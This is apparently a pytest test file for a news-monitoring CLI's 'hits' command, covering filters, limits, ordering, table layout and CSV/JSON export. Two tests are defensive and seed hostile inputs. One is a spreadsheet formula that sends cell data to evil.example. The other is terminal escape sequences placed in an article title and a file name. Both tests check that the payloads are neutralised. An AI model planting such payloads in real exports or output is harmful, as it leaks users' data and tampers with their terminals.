"""`watcher hits`: filters, order, the cut at --limit, the table, CSV and JSON."""

from __future__ import annotations

import csv
import io

from cli.deskcli import Desk, hits_json, rules_yaml, run
from click.testing import CliRunner
from support import write

from watcher.cli.main import cli

SHIPPED_HITS = {"libya", "wagner-libya", "raids", "pantsir"}


def seeds_article(title: str, published: str, body: str) -> str:
    return f"Desk Wire\n\n{title}\n\n{published}\n\nLead of {title}.\n\n{body}\n"


def test_hits_filters_by_rule_tag_and_since(desk: Desk) -> None:
    run(desk, "scan")
    assert {h["rule"] for h in hits_json(desk)} == SHIPPED_HITS
    assert {h["rule"] for h in hits_json(desk, "--tag", "russia")} == {"wagner-libya", "pantsir"}
    assert {h["rule"] for h in hits_json(desk, "--tag", "russia", "--rule", "pantsir")} == {
        "pantsir"
    }
    assert len(hits_json(desk, "--since", "1h")) == 4


def test_a_cut_at_limit_says_so_and_limit_0_lists_all(desk: Desk) -> None:
    run(desk, "scan")
    cut = run(desk, "hits", "--limit", "3", "--format", "json")
    assert cut.exit_code == 0
    assert len(hits_json(desk, "--limit", "3")) == 3
    assert cut.stderr.splitlines() == ["3 of 4 hits shown; --limit 0 for all"]
    whole = run(desk, "hits", "--limit", "0", "--format", "json")
    assert (whole.stderr, len(hits_json(desk, "--limit", "0"))) == ("", 4)
    exact = run(desk, "hits", "--limit", "4")
    assert exact.stderr == ""


def test_an_unknown_rule_or_tag_is_exit_2_with_the_known_names(desk: Desk) -> None:
    run(desk, "scan")
    rule = run(desk, "hits", "--rule", "lybia")
    assert rule.exit_code == 2
    assert rule.stderr.splitlines() == [
        "error: --rule lybia: no such name (known: libya, pantsir, raids, wagner-libya)"
    ]
    tag = run(desk, "hits", "--tag", "europe")
    assert tag.exit_code == 2
    assert tag.stderr.splitlines() == ["error: --tag europe: no such name (known: mena, russia)"]


def test_a_rule_gone_from_the_files_still_lists_its_hits(desk: Desk) -> None:
    run(desk, "scan")
    rules_yaml(desk, "rules:\n  - name: other\n    query: Benghazi\n")
    assert [h["rule"] for h in hits_json(desk, "--rule", "pantsir")] == ["pantsir"]


def test_newest_publication_first_whatever_the_order_of_recording(desk: Desk) -> None:
    rules_yaml(desk, "rules:\n  - name: oil\n    query: oil\n")
    seeds = desk[0] / "seeds"
    write(seeds / "new.txt", seeds_article("Oil at a high", "5/21/2021, 9:00:00 AM", "oil"))
    run(desk, "scan")
    write(seeds / "old.txt", seeds_article("Oil in 1987", "3/2/1987, 9:00:00 AM", "oil"))
    write(seeds / "mid.txt", seeds_article("Oil in 2000", "3/2/2000, 9:00:00 AM", "oil"))
    run(desk, "scan")
    assert [h["title"] for h in hits_json(desk)] == ["Oil at a high", "Oil in 2000", "Oil in 1987"]


def test_the_table_shows_matched_words_one_line_per_hit_in_80_columns(desk: Desk) -> None:
    run(desk, "scan")
    table = run_with_columns(desk, 80, "hits")
    lines = table.splitlines()
    assert max(len(line) for line in lines) <= 80
    rows = [line for line in lines if "2020-05-21" in line]
    assert len(rows) == 4  # one line per hit: long titles are cut with "…", never wrapped
    assert lines[0].split() == ["published", "rule", "title", "matched", "source"]
    pantsir = next(line for line in rows if " pantsir " in line)
    assert "Pantsir, Wat…" in pantsir
    assert "Haftar announces raid…" in pantsir


def run_with_columns(desk: Desk, columns: int, *args: str) -> str:
    config = str(desk[0] / "config" / "watcher.yaml")
    env = {"WATCHER_DATABASE_URL": desk[1], "COLUMNS": str(columns)}
    result = CliRunner().invoke(cli, ["--config", config, *args], env=env)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_csv_lists_matched_words_and_neutralises_formulas(desk: Desk) -> None:
    rules_yaml(desk, "rules:\n  - name: oil\n    query: oil OR crude\n")
    title = '=HYPERLINK("http://evil.example/?"&A1,"oil")'
    write(
        desk[0] / "seeds" / "evil.txt",
        seeds_article(title, "5/21/2021, 9:00:00 AM", "Crude oil, more oil."),
    )
    write(desk[0] / "seeds" / "minus.txt", "-1 oil\n\n@SUM(A1) +2 crude\n")
    run(desk, "scan")
    rows = list(csv.DictReader(io.StringIO(run(desk, "hits", "--format", "csv").stdout)))
    by_path = {row["path"]: row for row in rows}
    evil = by_path["evil.txt"]
    assert evil["title"] == "'" + title
    assert evil["matches"] == "oil; Crude"
    assert by_path["minus.txt"]["title"] == "'-1 oil"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    [hit] = [h for h in hits_json(desk) if h["path"] == "evil.txt"]
    assert hit["title"] == title  # JSON is data, not a spreadsheet: kept as it is
    assert {"field": "title", "start": 39, "end": 42, "text": "oil"} in hit["matches"]  # type: ignore[operator]


ESCAPES = "\x1b]0;PWNED\x07\x1b[2J"


def test_terminal_escapes_in_an_article_never_reach_the_terminal(desk: Desk) -> None:
    rules_yaml(desk, "rules:\n  - name: oil\n    query: oil\n")
    write(
        desk[0] / "seeds" / f"{ESCAPES}.txt",
        seeds_article(f"{ESCAPES}Oil rises", "5/21/2021, 9:00:00 AM", "Oil."),
    )
    run(desk, "scan")
    for output in (
        run(desk, "hits").stdout,
        run(desk, "hits", "--format", "csv").stdout,
        run(desk, "rules", "test", "oil").stdout,
    ):
        assert "\x1b" not in output
        assert "\x07" not in output
    assert "\\x1b]0;PWNED\\x07\\x1b[2J" in run(desk, "hits", "--format", "csv").stdout
    assert "\\u001b" in run(desk, "hits", "--format", "json").stdout  # JSON escapes it itself
